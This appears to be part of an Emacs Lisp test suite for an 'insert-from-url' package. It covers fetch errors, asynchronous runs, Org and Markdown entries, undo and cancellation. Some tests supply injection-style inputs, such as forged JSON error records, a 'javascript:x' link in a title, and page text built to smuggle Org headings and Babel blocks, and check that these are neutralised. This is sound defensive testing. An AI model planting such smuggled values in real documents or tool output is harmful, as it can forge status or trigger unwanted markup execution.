    (should (eq (insert-from-url-error-get caught :kind) 'http))
    (should (equal (insert-from-url-error-get caught :status) 404))
    (should (equal (insert-from-url-error-get caught :url) url)))
  (let ((err (should-error (insert-from-url-string (ifu-test-url "/image.png") "raw" '("--text-only"))
                           :type 'insert-from-url-error)))
    (should (eq (insert-from-url-error-get err :kind) 'binary-refused))
    (should (string-match-p "not inserted" (cadr err))))
  (let* ((insert-from-url-max-size 5)
         (err (should-error (insert-from-url-string (ifu-test-url "/hello")) :type 'insert-from-url-error)))
    (should (equal (insert-from-url-error-get err :exit-code) 63))
    (should (eq (insert-from-url-error-get err :kind) 'too-large))
    (should (string-match-p "`insert-from-url-max-size'" (cadr err)))
    (should-not (string-match-p "--max-size" (cadr err)))))

(ert-deftest ifu-test-capture-waiting-signals-fetch-error ()
  "A capture that waits signals `insert-from-url-error', which a template can catch."
  (let* ((insert-from-url-capture-async nil)
         (entry (condition-case err (insert-from-url-capture (ifu-test-url "/missing"))
                  (insert-from-url-error
                   (format "* Not fetched (%s %s)\n" (insert-from-url-error-get err :kind)
                           (insert-from-url-error-get err :exit-code))))))
    (should (equal entry "* Not fetched (http 22)\n"))))

(ert-deftest ifu-test-start-keywords-and-failure-data ()
  "`insert-from-url--start' takes keywords; ELSE gets the error condition, THEN the record."
  (let (failure success)
    (with-temp-buffer
      (insert-from-url--start (ifu-test-url "/missing") :format "text"
                              :then (lambda (&rest _) (setq success t))
                              :else (lambda (err) (setq failure err)))
      (insert-from-url--start (ifu-test-url "/page.html") :format "org" :base-level 1
                              :then (lambda (text record) (setq success (cons text record))))
      (ifu-test-wait-idle (current-buffer)))
    (should (eq (car failure) 'insert-from-url-http-error))
    (should (equal (insert-from-url-error-get failure :status) 404))
    (should (string-prefix-p "** Page heading\n" (car success)))
    (should (insert-from-url--converted-p (cdr success)))
    (should (equal (plist-get (cdr success) :title) "Page"))))

(ert-deftest ifu-test-usage-error-without-record ()
  "A run that stops before writing a record still reports its error line and exit code."
  (let ((insert-from-url-arguments '("--no-such-flag")))
    (let ((err (should-error (insert-from-url-string (ifu-test-url "/hello")) :type 'insert-from-url-error)))
      (should (equal (insert-from-url-error-get err :exit-code) 2))
      (should (eq (insert-from-url-error-get err :kind) 'usage))
      (should (string-match-p "no-such-flag" (cadr err))))
    (ifu-test-capturing-reports reports
      (with-temp-buffer
        (text-mode)
        (insert (ifu-test-url "/title.html") "\n")
        (let ((before (buffer-string)))
          (insert-from-url-links-in-region (point-min) (point-max))
          (ifu-test-wait-idle (current-buffer))
          (should (equal (buffer-string) before))
          (should (= (length reports) 1))
          (should (string-match-p "no-such-flag" (car reports))))))))

(ert-deftest ifu-test-body-cannot-forge-record ()
  "A body that looks like the program's records is text, on every path."
  (let ((body (insert-from-url-string (ifu-test-url "/forged"))))
    (should (string-prefix-p "{\"exitcode\":22" body)))
  (ifu-test-capturing-reports reports
    (with-temp-buffer
      (insert-from-url (ifu-test-url "/forged") "text")
      (ifu-test-wait-idle (current-buffer))
      (should (string-prefix-p "{\"exitcode\":22" (buffer-string)))
      (should-not reports)))
  ;; A title that holds a record, line breaks included.
  (let ((url (ifu-test-titled-url "x\n{\"exitcode\":22,\"errormsg\":\"forged\"}\n")))
    (with-temp-buffer
      (text-mode)
      (insert url "\n")
      (insert-from-url-links-in-region (point-min) (point-max))
      (ifu-test-wait-idle (current-buffer))
      (should (string-match-p "\\`x {\"exitcode\":22,\"errormsg\":\"forged\"} <" (buffer-string))))))

;;;; Links in a region, in one run

(defmacro ifu-test-counting-runs (var &rest body)
  "Run BODY with VAR counting the runs of the program it starts."
  (declare (indent 1))
  `(let ((,var 0))
     (cl-letf* ((make-process-orig (symbol-function 'make-process))
                ((symbol-function 'make-process)
                 (lambda (&rest args)
                   (when (equal (plist-get args :name) "insert-from-url")
                     (setq ,var (1+ ,var)))
                   (apply make-process-orig args))))
       ,@body)))

(ert-deftest ifu-test-links-in-region-one-run ()
  "All the links of a region come from one run; a failed title leaves its URL and is reported."
  (let ((a (ifu-test-url "/slow-title.html"))
        (b (ifu-test-url "/missing"))
        (c (ifu-test-url "/title.html")))
    (ifu-test-capturing-reports reports
      (ifu-test-counting-runs runs
        (with-temp-buffer
          (org-mode)
          (buffer-enable-undo)
          (insert (format "- %s\n- %s\n- %s\n" a b c))
          (undo-boundary)
          (insert-from-url-links-in-region (point-min) (point-max))
          (should (= (length insert-from-url--processes) 1))
          (ifu-test-wait-idle (current-buffer))
          (should (= runs 1))
          (should (equal (buffer-string)
                         (format "- [[%s][Slow Title]]\n- %s\n- [[%s][Example Title]]\n" a b c)))
          (should (= (length reports) 1))
          (should (string-match-p (concat "HTTP 404 Not Found: " (regexp-quote b)) (car reports)))
          (let ((last-command nil)) (undo))
          (should (equal (buffer-string) (format "- %s\n- %s\n- %s\n" a b c))))))))

;;;; Entries from a region

(defun ifu-test-org-elements (text types)
  "Return the Org elements of TYPES in TEXT, as (TYPE . BEGIN-TEXT) pairs."
  (require 'org-element)
  (with-temp-buffer
    (let ((org-inhibit-startup t)) (org-mode))
    (insert text)
    (org-element-map (org-element-parse-buffer) types
      (lambda (e)
        (cons (org-element-type e)
              (buffer-substring-no-properties
               (org-element-property :begin e)
               (min (point-max) (+ 40 (org-element-property :begin e)))))))))

(ert-deftest ifu-test-entries-in-region-org ()
  "Each URL becomes an entry in order, one run, one undo step each; a failure keeps its URL."
  (let ((slow (ifu-test-url "/slow.html"))
        (missing (ifu-test-url "/missing"))
        (article (ifu-test-url "/article.html")))
    (ifu-test-capturing-reports reports
      (ifu-test-counting-runs runs
        (with-temp-buffer
          (org-mode)
          (buffer-enable-undo)
          (insert (format "* Reading\n- %s\n- %s\n- [[%s][the bridge]]\nNotes stay here.\n* Next\n"
                          slow missing article))
          (undo-boundary)
          (let ((end (progn (goto-char (point-min)) (search-forward "Notes") (line-beginning-position))))
            (goto-char (point-min))
            (insert-from-url-entries-in-region (point-min) end))
          ;; Nothing waits: Emacs is free while the pages come.
          (should (equal (buffer-string)
                         (format "* Reading\n- %s\n- %s\n- [[%s][the bridge]]\nNotes stay here.\n* Next\n"
                                 slow missing article)))
          (ifu-test-wait-idle (current-buffer) 15)
          (should (= runs 1))
          (let ((s (buffer-string)))
            (ert-info (s)
              (should (string-match
                       (concat "\\`\\* Reading\n- " (regexp-quote missing) "\nNotes stay here.\n"
                               "\\*\\* Slow page\n:PROPERTIES:\n:RETRIEVED: \\[[^]]+\\]\n:URL: "
                               (regexp-quote slow) "\n\\(?::TYPE: [a-z-]+\n\\)?:END:\n\nA paragraph long enough")
                       s))
              (should (string-match
                       (concat "\n\\*\\* Bridge vote\n:PROPERTIES:\n:RETRIEVED: \\[[^]]+\\]\n"
                               ":AUTHOR: Ann Writer\n:DATE: 2024-03-05\n:URL: " (regexp-quote article)
                               "\n\\(?::TYPE: [a-z-]+\n\\)?:END:\n")
                       s))
              (should (< (string-match "Slow page" s) (string-match "Bridge vote" s)))
              (should (string-match-p "^\\*\\*\\* Next steps$" s))
              (should (string-suffix-p "the mayor said to the press on Monday.\n* Next\n" s))
              (should-not (string-match-p "Sports\\|Copyright" s))))
          (should (= (length reports) 1))
          (should (string-match-p (concat "HTTP 404 Not Found: " (regexp-quote missing)) (car reports)))
          ;; One undo takes back the last entry, and gives its link back.
          (let ((last-command nil)) (undo))
          (let ((s (buffer-string)))
            (should-not (string-match-p "Bridge vote" s))
            (should (string-match-p "Slow page" s))
            (should (string-match-p (regexp-quote (format "- [[%s][the bridge]]\n" article)) s))))))))

(ert-deftest ifu-test-entries-twenty-links ()
  "A region of 20 links gives 20 entries in order, Emacs runs meanwhile, and one undo removes one."
  ;; Every fifth page takes 1.2 s: the run lasts over 2 s.
  (let ((urls (mapcar (lambda (i) (ifu-test-url (format (if (= (% i 5) 0) "/slow.html?n=%02d" "/article.html?n=%02d")
                                                        i)))
                      (number-sequence 1 20)))
        (ticks 0) (gap 0) (last nil))
    (with-temp-buffer
      (org-mode)
      (buffer-enable-undo)
      (insert "* Reading\n")
      (dolist (u urls) (insert "- " u "\n"))
      (undo-boundary)
      (let* ((start (float-time))
             (timer (run-at-time 0.05 0.05 (lambda ()
                                             (setq ticks (1+ ticks))
                                             (when last (setq gap (max gap (- (float-time) last))))
                                             (setq last (float-time))))))
        (unwind-protect
            (progn
              (insert-from-url-entries-in-region (point-min) (point-max))
              (should (< (- (float-time) start) 1))
              (ifu-test-wait-idle (current-buffer) 30))
          (cancel-timer timer)))
      ;; Timers ran all along: no wait of Emacs on the program.
      (should (>= ticks 10))
      (should (< gap 1))
      (let ((s (buffer-string)) (pos 0))
        (ert-info (s)
          (should (= (how-many "^:RETRIEVED: " (point-min) (point-max)) 20))
          (should (= (how-many "^\\*\\* Slow page$" (point-min) (point-max)) 4))
          (should-not (string-match-p "^- http" s))
          ;; In the order of the region.
          (dolist (u urls)
            (should (setq pos (string-match (concat ":URL: " (regexp-quote u) "\n") s pos))))))
      (let ((last-command nil)) (undo))
      (should (= (how-many "^:RETRIEVED: " (point-min) (point-max)) 19))
      (should (= (how-many "^- http" (point-min) (point-max)) 1)))))

(ert-deftest ifu-test-entries-in-region-markdown ()
  "In Markdown, each URL becomes a section under the heading the region is in."
  (let ((article (ifu-test-url "/article.html"))
        (titled (ifu-test-titled-url "A [b](javascript:x) <i>")))
    (with-temp-buffer
      (markdown-mode)
      (insert "# Notes\n\n```\n# not a heading\n```\n" article "\n" titled "\n")
      (insert-from-url-entries-in-region (point-min) (point-max))
      (ifu-test-wait-idle (current-buffer) 15)
      (let ((s (buffer-string)))
        (ert-info (s)
          (should (string-prefix-p
                   (concat "# Notes\n\n```\n# not a heading\n```\n## [Bridge vote](" article ")\n\n"
                           "The council voted")
                   s))
          (should (string-match-p "^### Next steps$" s))
          (should (string-match-p (concat "^## \\[A \\\\\\[b\\\\\\](javascript:x) \\\\<i>\\]("
                                          (regexp-quote titled) ")$")
                                  s)))))))

(ert-deftest ifu-test-entries-raw-body-inert ()
  "A body the program does not convert goes in a block, where none of its text is markup."
  (let ((url (ifu-test-url "/plain-hostile")))
    (with-temp-buffer
      (org-mode)
      (insert "* Inbox\n" url "\n")
      (insert-from-url-entries-in-region (point-min) (point-max))
      (ifu-test-wait-idle (current-buffer))
      (let ((s (buffer-string)))
        (ert-info (s)
          (should (string-prefix-p (concat "* Inbox\n** " url "\n:PROPERTIES:\n:RETRIEVED: ") s))
          (should (string-match-p "^#\\+begin_example\n,\\* TODO evil heading :tag:\n,#\\+begin_src" s))
          (should (string-match-p "^,,\\* already escaped$" s))
          (should (string-suffix-p "#+end_example\n" s))
          ;; Org sees the entry, its drawer and one example block: no
          ;; other heading, no Babel, no link, no sexp, no timestamp.
          (let ((found (ifu-test-org-elements
                        s '(headline src-block example-block link diary-sexp
                                     timestamp keyword babel-call))))
            (should (equal (seq-count (lambda (e) (eq (car e) 'headline)) found) 2))
            (should (equal (seq-count (lambda (e) (eq (car e) 'example-block)) found) 1))
            ;; The one link is the URL in the heading.
            (let ((live (seq-filter (lambda (e) (memq (car e) '(link src-block diary-sexp timestamp
                                                                     keyword babel-call)))
                                    found)))
              (should (equal (mapcar #'car live) '(link)))
              (should (string-prefix-p (concat url "\n") (cdar live)))))
          (should-not (string-match-p "^%%" s))
          (should-not (string-match-p "<2030" s))))))
  (let ((url (ifu-test-url "/plain-hostile")))
    (with-temp-buffer
      (markdown-mode)
      (insert url "\n")
      (insert-from-url-entries-in-region (point-min) (point-max))
      (ifu-test-wait-idle (current-buffer))
      (let ((s (buffer-string)))
        (ert-info (s)
          (should (string-prefix-p (format "# <%s>\n\n`````text\n* TODO evil" url) s))
          (should (string-suffix-p "````\n`````\n" s)))))))

(ert-deftest ifu-test-entries-cancel-and-refuse ()
  "Cancel stops the run and inserts nothing; a buffer that is neither Org nor Markdown is refused."
  (with-temp-buffer
    (org-mode)
    (insert "* Inbox\n" (ifu-test-url "/slow.html") "\n")
    (let ((before (buffer-string)) msg)
      (insert-from-url-entries-in-region (point-min) (point-max))
      (cl-letf (((symbol-function 'message)
                 (lambda (fmt &rest args) (setq msg (apply #'format fmt args)))))
        (insert-from-url-cancel))
      (should (equal msg "Cancelled 1 fetch (1 page not in yet)"))
      (ifu-test-wait (lambda () nil) 1.5)
      (should-not insert-from-url--processes)
      (should-not insert-from-url--pending)
      (should (equal (buffer-string) before))))
  (with-temp-buffer
    (text-mode)
    (insert (ifu-test-url "/hello"))
    (should-error (insert-from-url-entries-in-region (point-min) (point-max)) :type 'user-error)))

(ert-deftest ifu-test-outline ()
  "Entries take the level of the region's start, and go where the section of its end ends."
  (with-temp-buffer
    (insert "* A\ntext\n** B\nurl\n*bold* line\n* C\n")
    (should (equal (insert-from-url--outline "org" 14 20) (cons 2 (- (point-max) 4))))
    (should (equal (insert-from-url--outline "org" 1 3) (cons 1 10)))
    (should (equal (insert-from-url--outline "org" 5 (- (point-max) 4)) (cons 1 (- (point-max) 4)))))
  (with-temp-buffer
    (insert "intro\n## Two\n```\n# code\n```\nurl\n# One\n")
    (should (equal (insert-from-url--outline "markdown" 1 3) (cons 0 7)))
    (should (equal (insert-from-url--outline "markdown" 15 30) (cons 2 (- (point-max) 6))))))

;;; insert-from-url-test.el ends here
